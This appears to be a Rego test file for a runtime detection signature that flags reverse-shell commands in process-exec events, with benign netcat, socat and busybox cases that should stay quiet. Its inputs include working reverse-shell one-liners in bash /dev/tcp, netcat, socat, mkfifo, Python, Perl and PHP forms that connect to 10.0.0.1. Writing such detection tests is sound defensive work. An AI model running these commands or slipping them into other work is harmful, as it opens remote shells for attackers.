package vigil.signatures.reverse_shell_command

run(path, argv) := {"name": "sched_process_exec", "process": {"pid": 8, "comm": "x"}, "args": {"pathname": path, "argv": argv}}

test_bash_dev_tcp if {
	some f in finding with input as run("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"])
	f.shapes == ["dev-tcp-redirection"]
}

test_sh_exec_dev_udp if {
	some f in finding with input as run("/usr/bin/dash", ["sh", "-c", "sh -i 0</dev/udp/10.0.0.1/53 1>&0"])
	f.shapes == ["dev-tcp-redirection"]
}

test_netcat_e if {
	some f in finding with input as run("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
	f.shapes == ["netcat-exec"]
}

test_netcat_combined_flags if {
	some f in finding with input as run("/usr/bin/ncat", ["ncat", "-lvnpe", "/bin/bash"])
	f.shapes == ["netcat-exec"]
}

test_ncat_long_option if {
	some f in finding with input as run("/usr/bin/ncat", ["ncat", "--sh-exec", "bash -i", "10.0.0.1", "443"])
	f.shapes == ["netcat-exec"]
}

test_socat if {
	some f in finding with input as run("/usr/bin/socat", ["socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:10.0.0.1:4444"])
	f.shapes == ["socat-exec"]
}

test_fifo_pipeline if {
	some f in finding with input as run("/usr/bin/dash", ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"])
	f.shapes == ["fifo-pipeline"]
}

test_python_socket_dup2 if {
	some f in finding with input as run("/usr/bin/python3.11", ["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])"])
	f.shapes == ["interpreter-socket-shell"]
}

test_perl_socket if {
	some f in finding with input as run("/usr/bin/perl", ["perl", "-e", "use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};"])
	f.shapes == ["interpreter-socket-shell"]
}

test_php_fsockopen if {
	some f in finding with input as run("/usr/bin/php8.2", ["php", "-r", "$sock=fsockopen(\"10.0.0.1\",4444);$proc=proc_open(\"/bin/sh -i\", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);"])
	f.shapes == ["interpreter-socket-shell"]
}

test_plain_netcat_is_quiet if {
	count(finding) == 0 with input as run("/usr/bin/nc.openbsd", ["nc", "-zv", "db", "5432"])
}

test_socat_port_forward_is_quiet if {
	count(finding) == 0 with input as run("/usr/bin/socat", ["socat", "tcp-listen:8080,fork", "tcp:127.0.0.1:80"])
}

test_python_http_client_is_quiet if {
	count(finding) == 0 with input as run("/usr/bin/python3", ["python3", "-c", "import socket;print(socket.gethostname())"])
}

test_dev_tcp_check_is_quiet if {
	# a port check reads nothing into a shell: no redirection of the shell's stdio
	count(finding) == 0 with input as run("/usr/bin/bash", ["bash", "-c", "echo > /dev/tcp/db/5432 && echo open"])
}

test_dev_tcp_read_write_fd if {
	some f in finding with input as run("/usr/bin/bash", ["bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"])
	f.shapes == ["dev-tcp-redirection"]
}

test_dev_tcp_output_with_stdin_dup if {
	some f in finding with input as run("/usr/bin/bash", ["bash", "-c", "sh -i > /dev/tcp/10.0.0.1/4444 0>&1 2>&1"])
	f.shapes == ["dev-tcp-redirection"]
}

test_busybox_nc_applet if {
	some f in finding with input as run("/usr/bin/busybox", ["busybox", "nc", "10.0.0.1", "4444", "-e", "/bin/sh"])
	f.shapes == ["netcat-exec"]
}

test_busybox_other_applet_with_e_is_quiet if {
	count(finding) == 0 with input as run("/usr/bin/busybox", ["busybox", "sed", "-e", "s/a/b/", "f"])
	count(finding) == 0 with input as run("/usr/bin/busybox", ["sed", "-e", "s/a/b/", "f"])
}
